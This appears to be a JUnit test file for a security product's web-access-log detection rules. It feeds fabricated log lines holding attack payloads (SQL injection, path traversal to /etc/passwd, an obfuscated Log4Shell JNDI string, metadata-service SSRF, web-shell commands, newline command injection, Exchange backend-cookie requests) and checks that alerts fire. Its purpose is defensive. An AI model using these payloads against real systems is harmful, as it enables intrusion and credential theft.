package io.cybershield.shield.gateway.triage.rules;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

import static io.cybershield.shield.gateway.triage.logs.LogSource.WEB_ACCESS;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
import static org.assertj.core.api.Assertions.assertThat;

/** nginx/Apache access logs: payloads seen through single and double URL-encoding. */
class WebAccessRulesTest {

  private static String combined(String ip, String request, int status, String agent) {
    return ip + " - - [01/Dec/2026:10:00:00 +0000] \"" + request + " HTTP/1.1\" " + status
        + " 512 \"-\" \"" + agent + "\"";
  }

  private static final String BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0";

  @Test
  void sqlInjectionPlainAndDoubleEncoded() {
    assertThat(firedAlone(WEB_ACCESS, combined("198.51.100.3",
        "GET /item?id=1%20UNION%20ALL%20SELECT%20user,pass%20FROM%20users--", 200, BROWSER)))
        .contains("shield-web-initial-001");
    assertThat(firedAlone(WEB_ACCESS, combined("198.51.100.3",
        "GET /item?id=1%2527%2520OR%2520SLEEP(5)--", 200, BROWSER))).contains("shield-web-initial-001");
  }

  @Test
  void traversalLog4ShellAndMetadataSsrf() {
    assertThat(firedAlone(WEB_ACCESS, combined("198.51.100.4", "GET /download?file=..%252f..%252f..%252fetc%252fpasswd",
        400, BROWSER))).contains("shield-web-initial-002");
    assertThat(firedAlone(WEB_ACCESS, combined("198.51.100.5", "GET /", 200,
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.5/a}")))
        .contains("shield-web-initial-003");
    assertThat(firedAlone(WEB_ACCESS, combined("198.51.100.6",
        "GET /proxy?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", 200, BROWSER)))
        .contains("shield-web-cred-001");
  }

  @Test
  void webShellCommandInAnUploadFolder() {
    assertThat(firedAlone(WEB_ACCESS, combined("198.51.100.7", "POST /wp-content/uploads/2026/12/x.php?cmd=id",
        200, BROWSER))).contains("shield-web-persist-001");
  }

  @Test
  void approvedInternalScannerAndOrdinaryTrafficAreNotFlagged() {
    List<Set<String>> benign = fired(WEB_ACCESS,
        combined("10.10.5.21", "GET /index.php?id=1%27%20OR%201=1--", 200,
            "Mozilla/5.0 (compatible; Qualys Vulnerability Scanner)"),
        combined("10.10.5.20", "GET /cgi-bin/../../etc/passwd", 404, "Mozilla/5.0 (compatible; Nessus)"),
        combined("81.2.69.160", "GET /search?q=select+a+union+jacket", 200, BROWSER),
        combined("81.2.69.160", "GET /blog/how-to-union-two-tables-in-sql", 200, BROWSER),
        combined("81.2.69.160", "POST /login", 302, BROWSER),
        combined("10.40.0.2", "GET /healthz", 200, "kube-probe/1.31"));
    assertThat(benign).allMatch(Set::isEmpty);
  }

  // ---------------------------------------------------------------- round 2 (lines written here)

  @Test
  void vhostCombinedLinesAreReadAndNewlineInjectionIsCaught() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.WEB_ACCESS, "shop.example.org:443 198.51.100.7 - - [05/Jan/2027:10:00:00 +0000] "
        + "\"GET /view.php?file=php://filter/read=convert.base64-encode/resource=index.php HTTP/1.1\" 200 1200 \"-\" "
        + "\"Mozilla/5.0\"")).contains("shield-web-initial-002");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.WEB_ACCESS, "shop.example.org:80 198.51.100.8 - - [05/Jan/2027:10:00:01 +0000] "
        + "\"GET /tools/lookup?name=example.org%0Awhoami HTTP/1.1\" 200 90 \"-\" \"curl/8.5.0\""))
        .contains("shield-web-initial-004");
  }

  @Test
  void ordinaryVhostRequestStaysQuiet() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.WEB_ACCESS, "shop.example.org:443 198.51.100.9 - - [05/Jan/2027:10:00:02 +0000] "
        + "\"GET /products?page=2&sort=price HTTP/1.1\" 200 5120 \"https://shop.example.org/\" \"Mozilla/5.0\""))
        .isEmpty();
  }

  @Test
  void exchangeBackendCookieAndAspxUnderAspnetClientInIisW3cLines() {
    assertThat(firedAlone(WEB_ACCESS, "2026-03-07 10:00:00 10.5.0.9 POST /owa/auth/y.js - 443 - 198.51.100.31 "
        + "Mozilla/5.0 X-BEResource=localhost/owa/auth/logon.aspx?~3 200 0 0 300")).contains("shield-web-initial-020");
    assertThat(firedAlone(WEB_ACCESS, "2026-03-07 10:01:00 10.5.0.9 POST /aspnet_client/system_web/help.aspx "
        + "c=aXBjb25maWc= 443 - 198.51.100.31 Mozilla/5.0 - 200 0 0 120")).contains("shield-web-persist-020");
    assertThat(firedAlone(WEB_ACCESS, "2026-03-07 10:02:00 10.5.0.9 GET /owa/auth/logon.aspx - 443 - 10.5.3.4 "
        + "Mozilla/5.0 - 200 0 0 90")).isEmpty();
  }
}
